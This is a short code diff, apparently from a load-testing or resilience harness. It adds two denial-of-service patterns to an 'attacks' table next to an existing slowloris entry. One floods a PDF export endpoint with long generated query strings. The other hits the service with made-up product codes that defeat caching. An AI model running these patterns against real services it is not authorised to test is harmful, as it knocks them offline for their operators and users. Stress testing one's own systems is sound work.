@@ -161,6 +161,29 @@ export const attacks = {
         socket.write(headOf(`/api/search?q=${words.join('+')}`))
       },
     }),
+  // These cost the gateway little, and the content service much.
+  'PDF documents of projects': (target) =>
+    attack(target, {
+      connections: 16,
+      everyMs: 300,
+      act: (socket, turn) => {
+        read(socket)
+        const lines = Array.from(
+          { length: 120 },
+          (_, at) => `${goods[at % goods.length]}*${turn + at}`,
+        )
+        socket.write(headOf(`/export/project.pdf?goods=${lines.join('_')}`))
+      },
+    }),
+  'codes that no product has': (target) =>
+    attack(target, {
+      connections: 24,
+      everyMs: 100,
+      act: (socket, turn) => {
+        read(socket)
+        socket.write(headOf(`/p/ks-${turn}zz${socket.localPort}/`))
+      },
+    }),
   'heads that never end (slowloris)': (target) =>
     attack(target, {
       connections: 300,
